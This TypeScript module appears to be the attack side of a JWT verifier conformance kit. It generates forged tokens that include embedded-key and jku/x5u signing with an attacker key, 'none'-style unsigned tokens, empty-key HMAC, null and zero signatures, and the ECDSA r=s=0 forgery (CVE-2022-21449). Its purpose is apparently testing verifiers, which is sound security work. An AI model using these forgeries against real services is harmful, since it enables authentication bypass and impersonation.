/**
 * The attack half of the JWT kit: tokens from the jwt_tool playbook (embedded `jwk`, `jku`/`x5u`,
 * `kid` injection, unsigned algorithm look-alikes, `crit`, `nbf`/`iat` in the future), built without
 * `jose`'s header checks where a forgery must break them (an unknown `crit`, an empty HMAC key).
 *
 * @module
 */
import { exportJWK, generateKeyPair, SignJWT } from "jose";
import { signatureBytes } from "./_jwt_algs.ts";

const enc = new TextEncoder();

/** base64url of bytes or a string. */
export function b64url(data: Uint8Array | string): string {
  const bytes = typeof data === "string" ? enc.encode(data) : data;
  let s = "";
  for (const b of bytes) s += String.fromCharCode(b);
  return btoa(s).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
}

let attacker: Promise<{ privateKey: CryptoKey; jwk: Record<string, unknown> }> | undefined;

/**
 * The kit's own RS256 key pair (the attacker's): its private key and public JWK.
 *
 * @returns the key and its public JWK (with `kid` "conformance-kit-attacker")
 */
export function attackerKey(): Promise<{ privateKey: CryptoKey; jwk: Record<string, unknown> }> {
  attacker ??= (async () => {
    const p = await generateKeyPair("RS256", { extractable: true });
    const jwk = {
      ...await exportJWK(p.publicKey),
      kid: "conformance-kit-attacker",
      alg: "RS256",
      use: "sig",
    };
    return { privateKey: p.privateKey, jwk };
  })();
  return attacker;
}

/**
 * An RS256 token signed by the attacker's key with extra header fields.
 *
 * @param claims the claims
 * @param header extra header fields (`jwk`, `jku`, `x5u`, `kid`)
 * @returns the token
 */
export async function signByAttacker(
  claims: Record<string, unknown>,
  header: Record<string, unknown>,
): Promise<string> {
  const { privateKey } = await attackerKey();
  return await new SignJWT(claims).setProtectedHeader({ alg: "RS256", typ: "JWT", ...header }).sign(
    privateKey,
  );
}

/**
 * An HMAC token (HS256 unless the header names HS384/HS512) over an HMAC key given as text (an
 * empty key is the HMAC of one zero byte: HMAC pads short keys with zeros, and WebCrypto refuses a
 * zero-length key).
 *
 * @param claims the claims
 * @param header extra header fields (an `alg` of HS384/HS512 picks the hash)
 * @param key the HMAC key
 * @returns the token
 */
export async function signHmac(
  claims: Record<string, unknown>,
  header: Record<string, unknown>,
  key: string,
): Promise<string> {
  const alg = header["alg"] === "HS384" || header["alg"] === "HS512" ? header["alg"] : "HS256";
  const bytes = key === "" ? new Uint8Array(1) : enc.encode(key);
  const hash = `SHA-${alg.slice(2)}`;
  const k = await crypto.subtle.importKey("raw", bytes, { name: "HMAC", hash }, false, ["sign"]);
  const head: Record<string, unknown> = { alg, typ: "JWT", ...header };
  head["alg"] = alg;
  const input = `${b64url(JSON.stringify(head))}.${b64url(JSON.stringify(claims))}`;
  return `${input}.${b64url(new Uint8Array(await crypto.subtle.sign("HMAC", k, enc.encode(input))))}`;
}

function signParams(alg: string): AlgorithmIdentifier | RsaPssParams | EcdsaParams {
  if (alg.startsWith("PS")) return { name: "RSA-PSS", saltLength: Number(alg.slice(2)) / 8 };
  if (alg.startsWith("ES")) return { name: "ECDSA", hash: `SHA-${alg.slice(2)}` };
  return { name: "RSASSA-PKCS1-v1_5" };
}

/**
 * A token signed by `key` over any header, with no header validation (so `crit` can name an
 * extension nobody knows).
 *
 * @param header the whole protected header (with `alg`)
 * @param claims the claims
 * @param key the signing key (its algorithm matches `header.alg`)
 * @returns the token
 */
export async function signRaw(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  key: CryptoKey,
): Promise<string> {
  const input = `${b64url(JSON.stringify(header))}.${b64url(JSON.stringify(claims))}`;
  const sig = await crypto.subtle.sign(signParams(String(header["alg"])), key, enc.encode(input));
  return `${input}.${b64url(new Uint8Array(sig))}`;
}

/**
 * The unsigned token for any `alg` text (look-alikes of `none`).
 *
 * @param alg the header's alg
 * @param claims the claims
 * @returns `header.payload.`
 */
export function unsigned(alg: string, claims: Record<string, unknown>): string {
  return `${b64url(JSON.stringify({ alg, typ: "JWT" }))}.${b64url(JSON.stringify(claims))}.`;
}

/**
 * A token whose signature is empty or all zero bytes, for any algorithm (jwt_tool's null
 * signature): the header and payload are `own`'s when given (the target's valid token), else built.
 *
 * @param header the header (with `alg`)
 * @param claims the claims
 * @param form "empty" (`h.p.`) or "zero" (zero bytes, as many as a signature of that algorithm)
 * @param key the issuer's key (an RSA key gives the modulus length for RS*, PS*)
 * @param own the valid token's parts, to keep its header and payload byte for byte
 * @returns the token
 */
export function nullSigned(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  form: "empty" | "zero",
  key: CryptoKey | undefined,
  own?: readonly string[],
): string {
  const alg = String(header["alg"]);
  const bits = (key?.algorithm as Partial<RsaHashedKeyAlgorithm> | undefined)?.modulusLength;
  const rsaBytes = bits !== undefined
    ? bits / 8
    : own !== undefined && /^(RS|PS)/.test(alg)
    ? Math.floor(((own[2] ?? "").length * 3) / 4)
    : 256;
  const head = own?.[0] ?? b64url(JSON.stringify({ typ: "JWT", ...header }));
  const body = own?.[1] ?? b64url(JSON.stringify(claims));
  const sig = form === "empty" ? "" : b64url(new Uint8Array(signatureBytes(alg, rsaBytes)));
  return `${head}.${body}.${sig}`;
}

/**
 * An ECDSA token whose signature is r = s = 0 (CVE-2022-21449): raw (JWS, RFC 7518 §3.4: 2×32 or
 * 2×48 zero bytes) or DER (SEQUENCE { INTEGER 0, INTEGER 0 }).
 *
 * @param header the header (`alg` ES256 or ES384)
 * @param claims the claims
 * @param form "raw" or "der"
 * @returns the token
 */
export function psychicToken(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  form: "raw" | "der",
): string {
  const sig = form === "der"
    ? Uint8Array.of(0x30, 6, 2, 1, 0, 2, 1, 0)
    : new Uint8Array(signatureBytes(String(header["alg"])));
  const head = b64url(JSON.stringify({ typ: "JWT", ...header }));
  return `${head}.${b64url(JSON.stringify(claims))}.${b64url(sig)}`;
}

/**
 * A JWT-shaped token of exactly `chars` characters: the header, the claims with a random `pad`
 * claim, a random signature (svc.jwt.oversized).
 *
 * @param header the header (with `alg`)
 * @param claims the claims
 * @param chars the token's length (at least 4096)
 * @returns the token
 */
export function oversizedToken(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  chars: number,
): string {
  const head = b64url(JSON.stringify({ typ: "JWT", ...header }));
  let sig = b64url(crypto.getRandomValues(new Uint8Array(256)));
  // a payload of P base64url characters exists unless P % 4 === 1: a 255-byte signature moves P by 2
  if ((chars - head.length - sig.length - 2) % 4 === 1) {
    sig = b64url(crypto.getRandomValues(new Uint8Array(255)));
  }
  const p = chars - head.length - sig.length - 2;
  const bytes = Math.floor((3 * p) / 4);
  const base = enc.encode(JSON.stringify({ ...claims, pad: "" })).length;
  let pad = "";
  // getRandomValues fills at most 65536 bytes at a time
  while (pad.length < bytes - base) pad += b64url(crypto.getRandomValues(new Uint8Array(48 * 1024)));
  pad = pad.slice(0, bytes - base);
  return `${head}.${b64url(JSON.stringify({ ...claims, pad }))}.${sig}`;
}
